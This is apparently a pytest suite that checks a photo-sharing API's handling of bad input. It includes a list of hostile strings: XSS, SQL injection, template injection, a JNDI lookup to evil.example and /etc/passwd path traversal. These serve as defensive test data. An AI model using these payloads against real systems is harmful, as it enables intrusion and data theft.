"""API: bad input gets a 4xx JSON error that names the problem, never a 5xx; hostile strings are
stored and returned verbatim."""

from __future__ import annotations

import io
from dataclasses import dataclass

import httpx
import orjson
import pytest
import pytest_asyncio
from asgi_lifespan import LifespanManager
from PIL import Image

from summit.blueprint import load_blueprint
from summit.testing.http import CLIENT_ERROR, assert_error
from summit.testing.mail import mailed_code

API = "/api/v1"
FAST_ARGON2 = {"argon2_time_cost": 1, "argon2_memory_kib": 1024}
PASSWORD = "correct horse 1"


# Every test here sends input the app must refuse, so the tests share one app per module (and
# per xdist worker) instead of starting one each: that keeps this many cases fast. Tests that
# count things compare before and after. 5xx answers come back as responses (not raised), so a
# test that tries many inputs reports all the bad ones at once.
pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def app(tmp_path_factory):  # noqa: ANN001, ANN201
    from photos.app import create_app

    data_dir = tmp_path_factory.mktemp("bad-input") / "data"
    # one app for the whole module, its hundreds of requests from one address: the rate limits
    # (which have tests of their own) would answer 429 before the input is looked at
    shield = {"exempt": ["127.0.0.0/8"]}
    blueprint = load_blueprint(environ={}, overrides={"data_dir": str(data_dir), "auth": FAST_ARGON2, "shield": shield})
    application = create_app(blueprint)
    async with LifespanManager(application, startup_timeout=30, shutdown_timeout=30):
        yield application


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def client(app):  # noqa: ANN001, ANN201
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as c:
        yield c


@dataclass
class World:
    auth: dict[str, str]
    username: str
    post: str
    comment: str


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def world(app, client) -> World:  # noqa: ANN001
    username, password = "world_owner", "correct horse 1"
    r = await client.post(f"{API}/accounts", json={"username": username, "email": "owner@example.com", "password": password})
    assert r.status_code == 201, r.text
    code = await mailed_code(app.state.ctx.platform.mail, "owner@example.com", "confirmation")
    r = await client.post(f"{API}/accounts/confirm", json={"login": username, "code": code})
    assert r.status_code == 200, r.text
    r = await client.post(f"{API}/sessions", json={"login": username, "password": password})
    assert r.status_code == 201, r.text
    client.cookies.clear()
    auth = {"Authorization": f"Bearer {r.json()['token']}"}
    photo = io.BytesIO()
    Image.new("RGB", (32, 32), "teal").save(photo, "JPEG")
    files = {"photo": ("a.jpg", photo.getvalue(), "image/jpeg")}
    post = (await client.post(f"{API}/posts", headers=auth, files=files, data={"caption": "a post #cats"})).json()
    r = await client.post(f"{API}/posts/{post['id']}/comments", headers=auth, json={"body": "a comment"})
    assert r.status_code == 201
    return World(auth, username, post["id"], r.json()["id"])


async def _posts_of(client, world: World) -> int:  # noqa: ANN001
    return (await client.get(f"{API}/me", headers=world.auth)).json()["posts"]


# ---- JSON bodies ------------------------------------------------------------------------------
# name: (method, path, a valid body, the required fields, the text fields the app validates)
JSON_ENDPOINTS = {
    "sign-up": ("POST", "/accounts", {"username": "newbie", "email": "newbie@example.com", "password": PASSWORD}, ["username", "email", "password"]),
    "log-in": ("POST", "/sessions", {"login": "{username}", "password": PASSWORD}, ["login", "password"]),
    "edit-me": ("PATCH", "/me", {"display_name": "New Name", "bio": "a bio"}, []),
    "edit-post": ("PATCH", "/posts/{post}", {"caption": "a caption"}, ["caption"]),
    "comment": ("POST", "/posts/{post}/comments", {"body": "a comment"}, ["body"]),
    # the user pool's endpoints (values that are well-formed but wrong: nothing here may succeed)
    "confirm": ("POST", "/accounts/confirm", {"login": "{username}", "code": "000000"}, ["login", "code"]),
    "resend": ("POST", "/accounts/confirm/resend", {"login": "nobody_at_all"}, ["login"]),
    "password-reset": ("POST", "/accounts/password-reset", {"login": "nobody_at_all"}, ["login"]),
    "reset-confirm": ("POST", "/accounts/password-reset/confirm", {"login": "{username}", "code": "000000", "new_password": "another horse 2"}, ["login", "code", "new_password"]),
    "change-password": ("POST", "/me/password", {"current_password": "not the password", "new_password": "another horse 2"}, ["current_password", "new_password"]),
    "mfa": ("POST", "/sessions/mfa", {"challenge": "not.a.challenge", "code": "123456"}, ["challenge", "code"]),
    "refresh": ("POST", "/sessions/refresh", {"refresh_token": "not-a-refresh-token-at-all"}, []),
    "verify-totp": ("POST", "/me/mfa/totp/verify", {"code": "123456"}, ["code"]),
}
OPTIONAL_BODY = {"refresh"}


def _url(world: World, path: str) -> str:
    return API + path.format(post=world.post, comment=world.comment, username=world.username)


def _body(world: World, body: dict) -> dict:
    return {k: (v.format(username=world.username) if isinstance(v, str) else v) for k, v in body.items()}


async def _send_json(client, world: World, name: str, content: bytes, content_type: str = "application/json"):  # noqa: ANN001, ANN202
    method, path, _, _ = JSON_ENDPOINTS[name]
    return await client.request(method, _url(world, path), content=content, headers={**world.auth, "content-type": content_type})


class Problems:
    """Collects every bad answer of a test that tries many inputs, so one report shows them all."""

    def __init__(self) -> None:
        self.found: list[str] = []

    def check(self, r, *words: str, status: int | None = None) -> None:  # noqa: ANN001
        try:
            assert_error(r, CLIENT_ERROR if status is None else status, *words)
        except (AssertionError, KeyError, ValueError) as error:
            reason = str(error).splitlines()[0][:160]
            request = f"{r.request.method} {r.request.url.raw_path.decode()} {r.request.content[:80]!r}"
            self.found.append(f"{request} -> {r.status_code} {r.text[:200]!r} [{reason}]")

    def assert_none(self) -> None:
        assert not self.found, "\n".join(self.found)


MALFORMED = [b'{"caption": ', b"{,}", b"{'single': 'quotes'}", b'{"a": 1}}', b"not json", b'{"a": tru}']
NOT_OBJECTS = [b"[]", b'[{"body": "x"}]', b'"a string"', b"42", b"true", b"null", b""]
WRONG_TYPES = [123, 1.5, True, [], ["a"], {"a": "b"}]


@pytest.mark.parametrize("name", list(JSON_ENDPOINTS))
async def test_malformed_json_is_400(client, world, name):
    problems = Problems()
    for content in MALFORMED:
        r = await _send_json(client, world, name, content)
        problems.check(r, "JSON", status=400)
        assert r.status_code >= 500 or r.json()["error"]["code"] == "bad_json"
    problems.assert_none()


@pytest.mark.parametrize("name", list(JSON_ENDPOINTS))
async def test_json_that_is_not_an_object_is_422(client, world, name):
    problems = Problems()
    for content in NOT_OBJECTS:
        if name in OPTIONAL_BODY and content in (b"", b"null"):
            continue  # no body: the refresh token comes from the cookie
        problems.check(await _send_json(client, world, name, content), "body", status=422)
    problems.assert_none()


@pytest.mark.parametrize("name", list(JSON_ENDPOINTS))
async def test_body_without_json_content_type_is_4xx(client, world, name):
    problems = Problems()
    body = orjson.dumps(_body(world, JSON_ENDPOINTS[name][2]))
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "application/xml"):
        problems.check(await _send_json(client, world, name, body, content_type), "JSON")
    problems.assert_none()


@pytest.mark.parametrize("name", list(JSON_ENDPOINTS))
async def test_missing_and_unknown_fields_are_422_naming_them(client, world, name):
    problems = Problems()
    for field in JSON_ENDPOINTS[name][3]:
        body = _body(world, JSON_ENDPOINTS[name][2])
        del body[field]
        problems.check(await _send_json(client, world, name, orjson.dumps(body)), field, status=422)
    body = _body(world, JSON_ENDPOINTS[name][2]) | {"is_admin": True}
    problems.check(await _send_json(client, world, name, orjson.dumps(body)), "is_admin", status=422)
    problems.assert_none()


@pytest.mark.parametrize("name", list(JSON_ENDPOINTS))
async def test_wrong_types_are_422_naming_the_field(client, world, name):
    problems = Problems()
    for field in JSON_ENDPOINTS[name][2]:
        for value in WRONG_TYPES:
            body = _body(world, JSON_ENDPOINTS[name][2]) | {field: value}
            problems.check(await _send_json(client, world, name, orjson.dumps(body)), field, status=422)
    problems.assert_none()


@pytest.mark.parametrize("name", list(JSON_ENDPOINTS))
async def test_huge_strings_are_422_naming_the_field(client, world, name):
    problems = Problems()
    for field in JSON_ENDPOINTS[name][2]:
        body = _body(world, JSON_ENDPOINTS[name][2]) | {field: "x" * 100_000}
        r = await _send_json(client, world, name, orjson.dumps(body))
        if name == "log-in":  # a login never says which part was wrong
            problems.check(r)
        else:
            problems.check(r, field, status=422)
    problems.assert_none()


async def test_body_over_a_mebibyte_is_413(client, world):
    problems = Problems()
    for name, (_, _, valid, _) in JSON_ENDPOINTS.items():
        field = next(iter(valid))
        body = _body(world, valid) | {field: "x" * (2 * 1024 * 1024)}
        problems.check(await _send_json(client, world, name, orjson.dumps(body)), "larger", status=413)
    problems.assert_none()


BAD_TEXT = {
    "nul": '"before\\u0000after"',
    "lone-high-surrogate": '"x\\ud800y"',
    "lone-low-surrogate": '"\\udfff"',
    "bell": '"ring\\u0007 bell"',
    "escape": '"\\u001b[31mred"',
    "delete": '"del\\u007f char"',
    "c1-control": '"c1\\u0085 next line"',
}

# the text fields that the app stores, where bad characters must be refused with the field's name
STORED_TEXT = [("sign-up", "username"), ("sign-up", "email"), ("edit-me", "display_name"), ("edit-me", "bio"), ("edit-post", "caption"), ("comment", "body")]


def _with_raw(world: World, name: str, field: str, raw_value: str) -> bytes:
    body = _body(world, JSON_ENDPOINTS[name][2])
    raw = orjson.dumps(body).decode().replace(orjson.dumps(body[field]).decode(), raw_value, 1)
    assert raw_value in raw
    return raw.encode()


@pytest.mark.parametrize("kind", list(BAD_TEXT))
async def test_control_characters_and_lone_surrogates_are_refused(client, world, kind):
    problems = Problems()
    for name, field in STORED_TEXT:
        problems.check(await _send_json(client, world, name, _with_raw(world, name, field, BAD_TEXT[kind])), field, status=422)
    problems.assert_none()


async def test_bad_characters_in_credentials_are_never_5xx(client, world):
    problems = Problems()
    for kind, raw_value in BAD_TEXT.items():
        for name, field in (("sign-up", "password"), ("log-in", "login"), ("log-in", "password")):
            r = await _send_json(client, world, name, _with_raw(world, name, field, raw_value))
            if kind in ("nul", "lone-high-surrogate", "lone-low-surrogate") or name == "log-in":
                problems.check(r)  # refused (or a wrong password): never stored, never a 5xx
            elif r.status_code >= 500:
                problems.found.append(f"{name} {field} {kind}: {r.status_code}")
    problems.assert_none()


async def test_invalid_utf8_and_deeply_nested_json_are_400(client, world):
    problems = Problems()
    for content in (b'{"bio": "\xff\xfe"}', '{"bio": "é"}'.encode("latin-1"), b"[" * 200_000 + b"]" * 200_000, b'{"bio":' + b"[" * 100_000 + b"]" * 100_000 + b"}"):
        problems.check(await _send_json(client, world, "edit-me", content), "body", status=400)
    problems.assert_none()


async def test_non_numeric_content_length_is_400(client, world):
    r = await client.post(f"{API}/posts", headers={**world.auth, "Content-Length": "lots"}, content=b"")
    assert_error(r, 400, "Content-Length")


# ---- multipart uploads ------------------------------------------------------------------------
def _multipart(boundary: str, parts: list[tuple[str, str | None, bytes]]) -> bytes:
    out = b""
    for name, filename, data in parts:
        disposition = f'Content-Disposition: form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        ctype = b"Content-Type: image/jpeg\r\n" if filename else b""
        out += f"--{boundary}\r\n{disposition}\r\n".encode() + ctype + b"\r\n" + data + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


BAD_CAPTIONS = {
    "nul": b"nul\x00byte",
    "bell": b"bell\x07 ring",
    "encoded-surrogate": b"cesu \xed\xa0\x80 surrogate",
    "invalid-utf8": b"\xff\xfe invalid utf-8",
    "too-long": b"x" * 2201,
}


@pytest.mark.parametrize("kind", list(BAD_CAPTIONS))
async def test_bad_caption_in_an_upload_is_4xx_and_creates_nothing(app, client, world, jpeg, kind):
    boundary = "b0undary4test"
    body = _multipart(boundary, [("photo", "a.jpg", jpeg(size=(32, 32))), ("caption", None, BAD_CAPTIONS[kind])])
    headers = {**world.auth, "content-type": f"multipart/form-data; boundary={boundary}"}
    posts, objects = await _posts_of(client, world), len(await app.state.ctx.objects.list("p/"))
    r = await client.post(f"{API}/posts", content=body, headers=headers)
    assert_error(r, CLIENT_ERROR, *(("caption",) if kind not in ("invalid-utf8", "encoded-surrogate") else ()))  # undecodable bytes: a 400 from the form parser
    assert await _posts_of(client, world) == posts
    assert len(await app.state.ctx.objects.list("p/")) == objects


BROKEN_MULTIPART = [
    ("multipart/form-data", b"--x\r\n"),
    ("multipart/form-data; boundary=", b"--\r\n"),
    ("multipart/form-data; boundary=abc", b"this is not multipart at all"),
    ("multipart/form-data; boundary=abc", b"--abc--\r\n"),
    ("multipart/form-data; boundary=abc", b'--abc\r\nContent-Disposition: form-data\r\n\r\nno name\r\n--abc--\r\n'),
    ("application/x-www-form-urlencoded", b"photo=abc&caption=x"),
    ("application/octet-stream", b"\xff\xd8\xff\xe0 raw bytes"),
    ("image/jpeg", b"\xff\xd8\xff\xe0 raw bytes"),
]


async def test_broken_multipart_is_4xx(client, world):
    problems, posts = Problems(), await _posts_of(client, world)
    for content_type, content in BROKEN_MULTIPART:
        problems.check(await client.post(f"{API}/posts", content=content, headers={**world.auth, "content-type": content_type}))
    problems.assert_none()
    assert await _posts_of(client, world) == posts


# Starlette leaves the temporary file of a part that never ends unclosed (the garbage collector
# closes it); that is Starlette's, not the app's, and the answer itself is what this test checks.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
async def test_unterminated_multipart_part_is_4xx(client, world):
    content = b'--abc\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\n\r\nunterminated'
    posts = await _posts_of(client, world)
    r = await client.post(f"{API}/posts", content=content, headers={**world.auth, "content-type": "multipart/form-data; boundary=abc"})
    assert_error(r, CLIENT_ERROR, "photo")
    assert await _posts_of(client, world) == posts


# ---- query parameters and IDs in paths --------------------------------------------------------
PAGED = ["/feed", "/users/{username}/posts", "/tags/cats", "/posts/{post}/comments"]
BAD_CURSORS = ["abc", "-1", "1.5", "0x10", " 1", "1 ", "9" * 21, "%00", "²", "99999999999999999999", "9223372036854775808"]
BAD_LIMITS = ["0", "-1", "101", "abc", "1e3", "1.5", "99999999999999999999999", ""]


@pytest.mark.parametrize("cursor", BAD_CURSORS)
async def test_invalid_cursor_is_422(client, world, cursor):
    problems = Problems()
    for path in PAGED:
        problems.check(await client.get(_url(world, path), params={"cursor": cursor}, headers=world.auth), "cursor", status=422)
    problems.assert_none()


async def test_invalid_limit_is_422(client, world):
    problems = Problems()
    for path in PAGED:
        for limit in BAD_LIMITS:
            problems.check(await client.get(_url(world, path), params={"limit": limit}, headers=world.auth), "limit", status=422)
    problems.assert_none()


async def test_valid_edge_limits_and_cursors(client, world):
    for path in PAGED:
        for params in ({"limit": "1"}, {"limit": "100"}, {"cursor": "1"}, {"cursor": str(2**63 - 1)}, {"cursor": ""}):
            r = await client.get(_url(world, path), params=params, headers=world.auth)
            assert r.status_code == 200, (path, params, r.text)


BAD_IDS = ["abc", "-1", "1.5", "0", "1e5", "0x1f", "%20", "null", "'%20OR%201=1%20--", "١٢٣", "²", "99999999999999999999", "9223372036854775808", "18446744073709551616"]
ID_ENDPOINTS = [
    ("GET", "/posts/{id}", None),
    ("PATCH", "/posts/{id}", {"caption": "x"}),
    ("DELETE", "/posts/{id}", None),
    ("PUT", "/posts/{id}/like", None),
    ("DELETE", "/posts/{id}/like", None),
    ("GET", "/posts/{id}/comments", None),
    ("POST", "/posts/{id}/comments", {"body": "x"}),
    ("DELETE", "/comments/{id}", None),
]


@pytest.mark.parametrize("bad_id", BAD_IDS)
async def test_non_numeric_and_out_of_range_ids_are_404(client, world, bad_id):
    problems = Problems()
    for method, path, body in ID_ENDPOINTS:
        r = await client.request(method, API + path.format(id=bad_id), headers=world.auth, json=body)
        problems.check(r, "no ", status=404)
    problems.assert_none()


async def test_unknown_or_odd_usernames_are_4xx(client, world):
    problems = Problems()
    for username in ("no_such_user", "' OR 1=1 --", "%00", "a" * 500, "%F0%9F%99%82", "%2e%2e", "%ED%A0%80"):
        for method, suffix in (("GET", ""), ("GET", "/posts"), ("PUT", "/follow"), ("DELETE", "/follow")):
            problems.check(await client.request(method, f"{API}/users/{username}{suffix}", headers=world.auth), "user", status=404)
    problems.assert_none()


async def test_invalid_tags_are_422(client, world):
    problems = Problems()
    for tag in ("not-a-tag", "' OR '1'='1", "%00", "a" * 101, "%20", "<script>", "%ED%A0%80"):
        problems.check(await client.get(f"{API}/tags/{tag}"), "tag", status=422)
    problems.assert_none()


async def test_invalid_idempotency_key_is_400(client, world, jpeg):
    problems, posts = Problems(), await _posts_of(client, world)
    for key in ("has space", "é", "k" * 256, "", "tab\tkey"):
        headers = {**world.auth, "Idempotency-Key": key.encode("utf-8")}
        r = await client.post(f"{API}/posts", headers=headers, files={"photo": ("a.jpg", jpeg(size=(32, 32)), "image/jpeg")})
        problems.check(r, "Idempotency-Key", status=400)
    problems.assert_none()
    assert await _posts_of(client, world) == posts


# ---- hostile strings are data -----------------------------------------------------------------
HOSTILE = [
    "<script>alert('xss')</script>",
    "' OR 1=1 --",
    "'; DROP TABLE posts; --",
    "\" onmouseover=\"alert(1)",
    "{{7*7}} ${7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "Robert'); DELETE FROM users WHERE ('1'='1",
    "\u202eevil\u202c \u200b\u200d zero-width and bidi",
    "emoji 👩‍👩‍👧‍👦 🏳️‍🌈 and CJK 漢字 and RTL مرحبا",
    "&lt;b&gt; &amp; &#x3C;",
    "tab\tand\nnewline",
]


@pytest.mark.parametrize("text", HOSTILE)
async def test_hostile_strings_are_stored_and_returned_verbatim(client, make_user, make_post, jpeg, text):
    user = await make_user()
    post = await make_post(user, text, jpeg(size=(32, 32)))
    assert post["caption"] == text
    assert (await client.get(f"{API}/posts/{post['id']}")).json()["caption"] == text

    r = await client.patch(f"{API}/posts/{post['id']}", headers=user.auth, json={"caption": text + "!"})
    assert r.status_code == 200 and r.json()["caption"] == text + "!"

    r = await client.post(f"{API}/posts/{post['id']}/comments", headers=user.auth, json={"body": text})
    assert r.status_code == 201, r.text
    assert r.json()["body"] == text
    assert (await client.get(f"{API}/posts/{post['id']}/comments")).json()["items"][0]["body"] == text

    display = text.replace("\t", " ").replace("\n", " ")[:60]
    r = await client.patch(f"{API}/me", headers=user.auth, json={"bio": text, "display_name": display})
    assert r.status_code == 200, r.text
    got = (await client.get(f"{API}/users/{user.username}")).json()
    assert got["bio"] == text and got["display_name"] == display
    assert r.headers["content-type"].startswith("application/json")


async def test_very_long_unicode_up_to_the_limits_round_trips(client, make_user, make_post):
    user = await make_user()
    caption = ("👩‍👩‍👧‍👦" * 400)[:2200]  # astral characters and joiners, exactly at the limit
    post = await make_post(user, caption)
    assert post["caption"] == caption
    body = "漢" * 1000
    r = await client.post(f"{API}/posts/{post['id']}/comments", headers=user.auth, json={"body": body})
    assert r.status_code == 201 and r.json()["body"] == body
    r = await client.post(f"{API}/posts/{post['id']}/comments", headers=user.auth, json={"body": body + "漢"})
    assert_error(r, 422, "body")


async def test_sql_fragments_in_credentials_do_not_log_in(client, make_user):
    await make_user()
    for login in ("' OR 1=1 --", "' OR '1'='1", "admin'--", "%", "_"):
        r = await client.post(f"{API}/sessions", json={"login": login, "password": "' OR 1=1 --"})
        assert_error(r, 401)
